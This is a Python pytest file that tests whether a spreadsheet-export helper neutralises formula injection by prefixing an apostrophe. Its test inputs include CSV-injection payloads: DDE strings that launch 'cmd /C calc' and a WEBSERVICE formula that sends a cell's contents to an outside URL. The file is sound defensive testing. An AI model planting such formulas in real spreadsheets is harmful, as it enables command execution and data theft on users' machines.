"""Text written to CSV/XLSX files never becomes an active spreadsheet formula."""

import pytest

from sozialraum.core.spreadsheets import inert


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org","Hilfe")',
        "@SUM(A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-1+1",
        '+1+WEBSERVICE("https://example.org/?"&D2)',
        "  =1+1",
        "\t=1+1",
        "+A1",
    ],
)
def test_formulas_get_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["+49 30 1234-5", "-3.5", "+49 (30) 123 45", "Beratung", "", 42, None, "a=b"]
)
def test_numbers_phone_numbers_and_plain_text_stay(value):
    assert inert(value) == value
